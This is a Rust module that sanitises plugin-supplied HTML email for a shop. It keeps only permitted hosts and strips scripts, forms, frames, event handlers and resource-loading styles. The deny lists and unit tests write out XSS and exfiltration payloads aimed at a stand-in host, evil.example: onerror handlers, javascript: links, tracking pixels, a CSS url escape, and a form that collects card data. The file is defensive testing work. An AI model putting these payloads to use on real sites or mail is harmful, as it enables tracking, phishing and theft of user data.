//! What a finished mail may hold and where it may lead.
//!
//! A plugin's template is the plugin's word, so the finished HTML is parsed as a browser would and
//! everything that is not allowed is taken out: other hosts (a picture is a link too: its address could carry
//! away what the template sees), scripts, forms, frames, style sheets in the body.

use std::collections::BTreeSet;

use html2text::{Element, Handle, RcDom};
use url::Url;

use crate::config::HostGrant;
use crate::domain::HostPattern;

/// Where a message may lead.
#[derive(Debug, Clone, Default)]
pub struct Allowed {
    /// The shop's own; their subdomains too.
    own: BTreeSet<String>,
    /// Granted to the plugin by the merchant.
    granted: Vec<HostPattern>,
    /// Addresses that the shop itself reported: a tracking link, a product's page.
    exact: BTreeSet<String>,
}

impl Allowed {
    /// The hosts of the shop's own addresses.
    #[must_use]
    pub fn of_shop<'a>(addresses: impl IntoIterator<Item = &'a str>) -> Self {
        let own = addresses
            .into_iter()
            .filter_map(|address| Url::parse(address).ok()?.host_str().map(|host| bare(host).to_owned()))
            .collect();
        Self { own, ..Self::default() }
    }

    pub fn grant<'a>(&mut self, hosts: impl IntoIterator<Item = &'a HostGrant>) {
        self.granted.extend(hosts.into_iter().map(|granted| granted.host.clone()));
    }

    pub fn add<'a>(&mut self, addresses: impl IntoIterator<Item = &'a str>) {
        self.exact.extend(addresses.into_iter().map(str::to_owned));
    }

    /// Whether a link or picture may have this address.
    #[must_use]
    pub fn permits(&self, address: &str) -> bool {
        let address = address.trim();
        if self.exact.contains(address) {
            return is_plain(address);
        }
        let Ok(url) = Url::parse(address) else { return false };
        let Some(host) = url.host_str().map(str::to_ascii_lowercase) else { return false };
        if !matches!(url.scheme(), "https" | "http") || !url.username().is_empty() || url.password().is_some()
        {
            return false;
        }
        let own = self.own.iter().any(|known| {
            bare(&host) == known || host.strip_suffix(known.as_str()).is_some_and(|rest| rest.ends_with('.'))
        });
        own || self.granted.iter().any(|granted| granted.names(&host))
    }
}

/// The HTML with what is not allowed taken out, and what that was, each in a few words without the address's
/// path (it may hold anything).
pub fn clean(dom: &RcDom, allowed: &Allowed) -> Vec<String> {
    let mut remarks = BTreeSet::new();
    walk(&dom.document, allowed, false, &mut remarks);
    remarks.into_iter().collect()
}

const FORBIDDEN: [&str; 26] = [
    "script", "noscript", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "select", "textarea", "option", "link", "base", "svg", "math", "template", "video", "audio",
    "source", "track", "canvas", "portal", "marquee",
];

fn walk(node: &Handle, allowed: &Allowed, in_body: bool, remarks: &mut BTreeSet<String>) {
    node.children.borrow_mut().retain(|child| {
        let Element { name, attrs, .. } = &child.data else { return true };
        let tag = name.local.to_string();
        let refresh =
            tag == "meta" && attrs.borrow().iter().any(|attribute| &*attribute.name.local == "http-equiv");
        let sheet = tag == "style" && in_body;
        if FORBIDDEN.contains(&tag.as_str()) || refresh || sheet {
            remarks.insert(format!("<{tag}> was taken out"));
            return false;
        }
        attrs.borrow_mut().retain_mut(|attribute| {
            let attribute_name = attribute.name.local.to_string();
            let value = attribute.value.to_string();
            match keeps(&tag, &attribute_name, &value, allowed) {
                Ok(()) => true,
                Err(remark) => {
                    remarks.insert(remark);
                    false
                }
            }
        });
        // A picture without an address is a broken one.
        if tag == "img" && !attrs.borrow().iter().any(|attribute| &*attribute.name.local == "src") {
            return false;
        }
        true
    });
    for child in node.children.borrow().iter() {
        let enters = child.element_name().is_some_and(|name| name == "body");
        walk(child, allowed, in_body || enters, remarks);
    }
}

fn keeps(tag: &str, attribute: &str, value: &str, allowed: &Allowed) -> Result<(), String> {
    match attribute {
        "href" if tag == "a" => {
            let link = value.trim();
            if link.starts_with("mailto:") || link.starts_with("tel:") {
                return if allowed.exact.contains(link) { Ok(()) } else { Err(refused("a link", link)) };
            }
            if allowed.permits(link) { Ok(()) } else { Err(refused("a link", link)) }
        }
        "src" if tag == "img" => {
            if allowed.permits(value) {
                Ok(())
            } else {
                Err(refused("a picture", value))
            }
        }
        "style" => {
            let lower = value.to_ascii_lowercase();
            let reaches = ["url(", "image(", "image-set(", "expression(", "@import", "behavior", "\\", "/*"];
            if reaches.iter().any(|word| lower.contains(word)) {
                Err("a style that loads something was taken out".to_owned())
            } else {
                Ok(())
            }
        }
        "href" | "src" | "srcset" | "srcdoc" | "background" | "action" | "formaction" | "poster" | "data"
        | "ping" | "cite" | "longdesc" | "dynsrc" | "lowsrc" | "usemap" | "classid" | "codebase"
        | "manifest" | "is" => Err(format!("`{attribute}` of <{tag}> was taken out")),
        _ if attribute.starts_with("on") => Err(format!("`{attribute}` of <{tag}> was taken out")),
        _ => Ok(()),
    }
}

/// Names the host only.
fn refused(what: &str, address: &str) -> String {
    match Url::parse(address.trim()) {
        Ok(url) => match url.host_str() {
            Some(host) => format!(
                "{what} to {host} was taken out: not the shop's host and not among the plugin's `hosts`"
            ),
            None => format!("{what} of the kind `{}:` was taken out", url.scheme()),
        },
        Err(_) => format!("{what} that is not a whole address (https://…) was taken out"),
    }
}

/// What the shop reported is still only a page or a way to write to it.
fn is_plain(address: &str) -> bool {
    ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| address.starts_with(scheme))
}

fn bare(host: &str) -> &str {
    host.strip_prefix("www.").unwrap_or(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Allowed {
        let mut allowed = Allowed::of_shop(["https://www.linen.example/", "https://help.example/contact"]);
        allowed.grant(
            &["track.example", "*.cdn.example"].map(|host| host.parse::<HostPattern>().unwrap().into()),
        );
        allowed.add(["https://carrier.example/t/1?x=y", "mailto:hello@linen.example", "javascript:alert(1)"]);
        allowed
    }

    #[test]
    fn links_lead_to_the_shop_to_granted_hosts_and_to_what_the_shop_reported() {
        let cases = [
            ("https://linen.example", true),
            ("https://www.linen.example/a?b=c#d", true),
            ("http://shop.linen.example/", true),
            ("https://help.example/contact", true),
            ("https://LINEN.example/", true),
            ("https://track.example/1", true),
            ("https://a.cdn.example/x.png", true),
            ("https://carrier.example/t/1?x=y", true),
            ("https://carrier.example/t/2", false),
            ("https://sub.track.example/1", false),
            ("https://cdn.example/x.png", false),
            ("https://evillinen.example", false),
            ("https://linen.example.evil.example", false),
            ("https://linen.example@evil.example/", false),
            ("https://user:pw@linen.example/", false),
            ("//evil.example/x", false),
            ("/relative", false),
            ("javascript:alert(1)", false),
            ("data:text/html,x", false),
            ("ftp://linen.example/", false),
            ("", false),
        ];
        for (address, permitted) in cases {
            assert_eq!(allowed().permits(address), permitted, "{address}");
        }
    }

    fn cleaned(html: &str) -> (String, Vec<String>) {
        let dom = html2text::config::plain().parse_html(html.as_bytes()).unwrap();
        let remarks = clean(&dom, &allowed());
        let mut out = Vec::new();
        dom.serialize(&mut out).unwrap();
        (String::from_utf8(out).unwrap(), remarks)
    }

    #[test]
    fn other_links_lose_their_address_and_keep_their_words() {
        let (html, remarks) = cleaned(
            "<body><a href=\"https://evil.example/?name=Ola\">Click</a> <a href='https://linen.example/x'>Shop</a></body>",
        );
        assert!(html.contains("<a>Click</a>"), "{html}");
        assert!(html.contains("href=\"https://linen.example/x\""), "{html}");
        assert_eq!(
            remarks,
            ["a link to evil.example was taken out: not the shop's host and not among the plugin's `hosts`"]
        );
    }

    #[test]
    fn nothing_that_runs_loads_or_asks_stays() {
        let bad = [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel?Ola\">",
            "<img src=\"https://linen.example/a.png\" srcset=\"https://evil.example/b.png 2x\">",
            "<table background=\"https://evil.example/x\"><tr><td>x</td></tr></table>",
            "<p style=\"background:url(https://evil.example/x)\">x</p>",
            "<p style=\"background:u\\72l(https://evil.example/x)\">x</p>",
            "<style>.legal{display:none} @import url(https://evil.example)</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<form action=https://evil.example><input name=card></form>",
            "<iframe src=https://evil.example></iframe>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<svg><a xlink:href=https://evil.example><text>x</text></a></svg>",
            "<base href=https://evil.example/>",
            "<a href=mailto:thief@evil.example>x</a>",
        ];
        for html in bad {
            let (clean, remarks) = cleaned(&format!("<body>{html}</body>"));
            for word in ["evil.example", "alert", "onerror", "<form", "<script", "display:none"] {
                assert!(!clean.contains(word), "`{word}` is left of {html}: {clean}");
            }
            assert!(!remarks.is_empty(), "{html}");
        }
    }

    #[test]
    fn what_is_allowed_stays_as_it_is() {
        let fine = "<a href=\"https://track.example/1\">x</a><img src=\"https://a.cdn.example/x.png\" alt=\"x\"><a href=\"mailto:hello@linen.example\">x</a><p style=\"color: red\">x</p>";
        let (html, remarks) = cleaned(&format!("<body>{fine}</body>"));
        assert!(html.contains(fine), "{html}");
        assert!(remarks.is_empty(), "{remarks:?}");
    }
}
